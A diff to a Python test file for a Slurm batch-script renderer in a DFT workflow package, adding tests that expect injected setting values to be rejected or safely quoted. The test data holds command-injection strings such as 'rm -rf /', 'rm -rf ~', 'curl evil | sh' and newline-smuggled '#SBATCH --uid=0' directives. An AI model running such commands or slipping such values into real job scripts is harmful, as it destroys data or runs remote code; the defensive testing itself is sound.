@@ -4,8 +4,11 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from tasks.dft import DftSettings
-from tasks.hpc import SlurmSettings, parse_sacct, parse_scontrol, parse_squeue, render_sbatch
+import pytest
+from pydantic import ValidationError
+
+from tasks.dft.settings import DftSettings, SlurmSettings
+from tasks.dft.slurm import parse_sacct, parse_scontrol, parse_squeue, render_sbatch
 
 
 def test_parse_squeue_one_line_per_array_task() -> None:
@@ -54,5 +57,30 @@ def test_render_sbatch(tmp_path: Path) -> None:
     assert "#SBATCH --time=02:00:00" in script
     assert "module load vasp" in script
     assert "export PMG_VASP_PSP_DIR='/opt/potcars dir'" in script
-    assert f"dft run-task {batch}" in script
+    assert f"-m tasks.dft.node {batch}" in script  # the light node entry point, not the CLI
     assert '"${SLURM_ARRAY_TASK_ID}"' in script
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        {"partition": "debug\n#SBATCH --uid=0"},
+        {"account": "lab; rm -rf ~"},
+        {"qos": "high\nhostname"},
+        {"mem": "32G\n#SBATCH --exclusive"},
+        {"extra_directives": ["--constraint=x\n#SBATCH --uid=0"]},
+        {"extra_directives": ["rm -rf /"]},
+        {"environment": {"OK\nBAD": "1"}},
+        {"setup_commands": ["module load vasp\ncurl evil | sh"]},
+    ],
+)
+def test_injected_lines_in_slurm_settings_are_refused(field) -> None:
+    with pytest.raises(ValidationError):
+        SlurmSettings(**field)
+
+
+def test_environment_values_are_quoted(tmp_path: Path) -> None:
+    slurm = SlurmSettings(environment={"X": "a'; echo pwned; '"})
+    script = render_sbatch(tmp_path / "w" / "batches" / "b.json", 1, DftSettings(), slurm, "j")
+    (line,) = [ln for ln in script.splitlines() if ln.startswith("export X=")]
+    assert line == "export X='a'\"'\"'; echo pwned; '\"'\"''"
